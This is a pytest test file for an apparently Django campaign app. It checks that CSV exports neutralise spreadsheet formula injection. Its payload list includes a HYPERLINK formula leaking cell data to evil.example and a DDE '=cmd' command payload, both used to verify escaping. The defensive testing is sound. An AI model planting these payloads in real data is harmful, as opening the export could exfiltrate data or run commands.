"""Cells a spreadsheet would run as formulas are neutralised in every export path."""

import pytest

from tests.factories import make_campaign, make_consent, make_organisation, make_signature, make_staff_user
from tests.staff import log_in_staff

from .support import (
    EXPORT_PERMISSION,
    csv_rows,
    export_from_command,
    export_in_background,
    export_page,
    form_data,
    streamed,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+41 cmd",
    "-2+3",
    "@SUM(1,2)",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned():
    """A campaign whose names, postcodes, emails and partner name all start with formulas."""
    campaign = make_campaign()
    partner = make_organisation(name="=HYPERLINK(\"http://evil.example\")")
    organisation = make_organisation(slug="contact-org")
    for payload in PAYLOADS:
        signature = make_signature(
            campaign,
            first_name=payload,
            last_name=payload,
            postcode=payload[:16],
            email=f"{payload}@example.org",
            partner=partner,
            status="confirmed",
        )
        make_consent(signature, organisation)
    return campaign


def assert_neutralised(data: bytes):
    rows = csv_rows(data)
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), f"{column} starts with a formula: {cell!r}"
    assert sorted(row["last_name"] for row in rows) == sorted("'" + payload for payload in PAYLOADS)
    assert {row["first_name"] for row in rows} == {"'" + payload for payload in PAYLOADS}
    return rows


def test_it_neutralises_formulas_in_a_streamed_verified_list(client, poisoned):
    log_in_staff(client, make_staff_user(EXPORT_PERMISSION))
    rows = assert_neutralised(streamed(client.post(export_page(poisoned), form_data())))
    assert {row["partner"] for row in rows} == {"'=HYPERLINK(\"http://evil.example\")"}
    assert {row["postcode"] for row in rows} == {"'" + payload[:16] for payload in PAYLOADS}


def test_it_neutralises_formulas_in_a_streamed_contact_list(client, poisoned):
    log_in_staff(client, make_staff_user(EXPORT_PERMISSION))
    response = client.post(export_page(poisoned), form_data(purpose="contact", consented_to="contact-org"))
    rows = assert_neutralised(streamed(response))
    assert {row["email"] for row in rows} == {f"'{payload}@example.org" for payload in PAYLOADS}


def test_it_neutralises_formulas_in_a_background_file(client, poisoned, settings, django_capture_on_commit_callbacks):
    settings.EXPORT_STREAM_MAX_ROWS = 1
    log_in_staff(client, make_staff_user(EXPORT_PERMISSION))
    rows = assert_neutralised(export_in_background(client, poisoned, django_capture_on_commit_callbacks))
    assert {row["partner"] for row in rows} == {"'=HYPERLINK(\"http://evil.example\")"}
    contact = export_in_background(
        client, poisoned, django_capture_on_commit_callbacks, purpose="contact", consented_to="contact-org"
    )
    assert {row["email"] for row in assert_neutralised(contact)} == {f"'{payload}@example.org" for payload in PAYLOADS}


def test_it_neutralises_formulas_on_the_command_line(poisoned, tmp_path):
    rows = assert_neutralised(export_from_command(tmp_path, poisoned))
    assert {row["partner"] for row in rows} == {"'=HYPERLINK(\"http://evil.example\")"}
    contact = export_from_command(tmp_path, poisoned, "--purpose", "contact", "--consented-to", "contact-org")
    assert {row["email"] for row in assert_neutralised(contact)} == {f"'{payload}@example.org" for payload in PAYLOADS}


def test_it_leaves_ordinary_values_alone(client):
    campaign = make_campaign()
    make_signature(campaign, first_name="Anne-Marie", last_name="O'Brien, \"Jr\"", postcode="1-2", status="confirmed")
    log_in_staff(client, make_staff_user(EXPORT_PERMISSION))
    [row] = csv_rows(streamed(client.post(export_page(campaign), form_data())))
    assert (row["first_name"], row["last_name"], row["postcode"]) == ("Anne-Marie", "O'Brien, \"Jr\"", "1-2")
